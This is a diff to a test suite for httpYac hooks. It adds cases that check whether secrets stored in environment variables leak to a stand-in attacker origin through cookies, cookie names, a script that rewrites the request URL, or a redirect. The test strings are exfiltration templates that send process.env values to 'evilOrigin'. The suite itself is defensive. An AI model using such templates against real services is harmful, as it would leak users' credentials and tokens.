@@ -361,6 +361,14 @@ describe('the hooks in httpYac', () => {
         'a script, in base64',
         () => `GET ${evilOrigin}/\nX-A: {{Buffer.from('me:' + process.env.${variable}).toString('base64')}}`,
       ],
+      ['a cookie', () => `GET ${evilOrigin}/\nCookie: a={{$processEnv ${variable}}}`],
+      ['a cookie with a token written out', () => `GET ${evilOrigin}/\nCookie: a=${stale}; b=1`],
+      ['the name of a cookie', () => `GET ${evilOrigin}/\nCookie: ${stale}=1`],
+      [
+        'a cookie, and a script that changes the URL',
+        () =>
+          `{{@request\nrequest.url = '${evilOrigin}/x';\n}}\nGET ${origin}/x\nCookie: a={{$processEnv ${variable}}}`,
+      ],
       ['the body', () => `POST ${evilOrigin}/\n\nt={{$processEnv ${variable}}}`],
       [
         'another request that is sent before',
@@ -382,6 +390,17 @@ describe('the hooks in httpYac', () => {
         assert.deepEqual(warnings, []);
       });
     }
+
+    it('from where a redirect leads, in a cookie too', async () => {
+      redirectTo = `${evilOrigin}${below}/y`;
+      await send(
+        `GET ${origin}${below}\nCookie: a={{$processEnv ${variable}}}\n${header}`,
+        ...(['cookie.http', null, { defaultHeaders: { 'x-a': '1' } }] as const),
+      );
+      assert.deepEqual(received, [`Bearer ${fresh}`]);
+      assert.equal(stolen.length, 1);
+      for (const value of [fresh, stale]) assert.ok(!stolen.join('\n').includes(value), stolen.join('\n'));
+    });
 
     it('from a proxy of the project', async () => {
       await send(`GET ${origin}${below}\n${header}`, 'proxy.http', null, { proxy: evilOrigin });
